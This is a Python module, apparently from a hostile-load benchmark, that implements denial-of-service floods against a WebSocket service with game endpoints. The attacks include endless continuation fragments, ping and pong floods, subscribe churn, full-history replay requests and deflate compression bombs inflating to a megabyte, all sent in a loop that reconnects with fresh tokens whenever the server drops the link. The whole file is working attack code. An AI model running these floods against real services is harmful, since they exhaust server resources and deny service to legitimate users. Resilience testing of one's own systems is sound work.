"""Attacks within WebSocket links: floods of cheap frames and of messages, by one client that comes back when ended."""

import json
import zlib
from collections.abc import Iterator
from typing import Final

from bench.hostile.sockets import Target, frame

CONTINUATION: Final = 0x0
TEXT: Final = 0x1
PING: Final = 0x9
PONG: Final = 0xA
_BLOCK_BYTES: Final = 60_000
"""Bytes of one write: 10,000 of the smallest frames."""
_DEFLATED: Final = 0x40  # RSV1 of RFC 7692
_TOKEN_LIFE: Final = 200
"""Links with one token, which is valid for 30 s."""


def continuation(target: Target) -> Iterator[int]:
    """Empty fragments of a message that never ends: six bytes each."""
    return _flood(target, frame(TEXT, fin=False), frame(CONTINUATION, fin=False))


def pings(target: Target) -> Iterator[int]:
    return _flood(target, b"", frame(PING))


def pongs(target: Target) -> Iterator[int]:
    return _flood(target, b"", frame(PONG))


def empty_messages(target: Target) -> Iterator[int]:
    return _flood(target, b"", frame(TEXT))


def ping_messages(target: Target) -> Iterator[int]:
    return _flood(target, b"", frame(TEXT, b'{"action":"ping"}'))


def subscribe(target: Target) -> Iterator[int]:
    """Subscribe to a game and unsubscribe from it, again and again."""
    messages = ({"action": action, "games": ["crash", "plinko"]} for action in ("subscribe", "unsubscribe"))
    return _flood(target, b"", b"".join(frame(TEXT, json.dumps(message).encode()) for message in messages))


def replays(target: Target) -> Iterator[int]:
    """Ask for a replay of everything with each message."""
    message = {"action": "subscribe", "games": ["crash"], "after": "k0-1"}
    return _flood(target, b"", frame(TEXT, json.dumps(message).encode()))


def bombs(target: Target) -> Iterator[int]:
    """Compressed messages that inflate to a megabyte."""
    deflate = zlib.compressobj(wbits=-15)
    data = deflate.compress(b" " * (1 << 20)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    bomb = frame(TEXT, data[:-4])
    return _flood(target, b"", bytes([bomb[0] | _DEFLATED]) + bomb[1:])


def _flood(target: Target, opening: bytes, repeated: bytes) -> Iterator[int]:
    """Send blocks of frames; open another link when this one is ended. Yields how many were sent."""
    count = max(1, _BLOCK_BYTES // len(repeated))
    block = repeated * count
    links, token = 0, ""
    while True:
        try:
            if links % _TOKEN_LIFE == 0:
                token = target.token()
            links += 1
            connection = target.websocket(token, "/ws/dice", "Sec-WebSocket-Extensions: permessage-deflate")
            connection.sendall(opening)
            while True:
                connection.sendall(block)
                yield count
        except OSError:
            yield 0  # ended, refused, or the relay does not read
